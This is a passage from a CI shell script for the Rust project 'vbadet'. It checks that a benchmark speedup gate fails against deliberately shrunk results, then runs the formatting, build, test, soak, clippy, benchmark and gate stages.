        /"speedup_vs_reference"[ \t]*:/ {
            split($0, half, ":")
            value = half[2]
            trail = (value ~ /,[ \t]*$/) ? "," : ""
            gsub(/[ \t,]/, "", value)
            printf "%s: %.4f%s\n", half[1], value * 0.1, trail
            next
        }
        { print }
    ' "$FEATURES_BENCH" >"$doctored_features"
    if (CI_FEATURES_BENCH="$doctored_features" run_gates); then
        echo "ci: --gate-test FAIL — the fused-extraction gate passed against doctored results" >&2
        exit 1
    fi
    echo "ci: --gate-test ok — the fused-extraction speedup gate fails against doctored results"
    exit 0
fi

stage fmt cargo fmt --all --check
stage build cargo build --release --offline --workspace
stage build-faultpoints cargo build --offline --features faultpoints
stage test cargo test -q --offline --workspace
stage test-faultpoints cargo test -q --offline --features faultpoints
stage test-determinism determinism_tests
stage cache cache_tests
stage isolation isolation_tests
stage serve serve_tests
stage serve-soak serve_soak
stage reload-soak reload_soak
stage clippy cargo clippy --offline --all-targets -- -D warnings
stage clippy-faultpoints cargo clippy --offline -p vbadet-faultpoint --features faultpoints --all-targets -- -D warnings
stage bench cargo bench --offline -p vbadet-bench --bench scan_parallel
stage bench-features cargo bench --offline -p vbadet-bench --bench features
stage bench-cache cargo bench --offline -p vbadet-bench --bench cache
stage bench-reload cargo bench --offline -p vbadet-bench --bench reload
stage gates run_gates

write_summary
echo "ci: OK — summary in $SUMMARY"
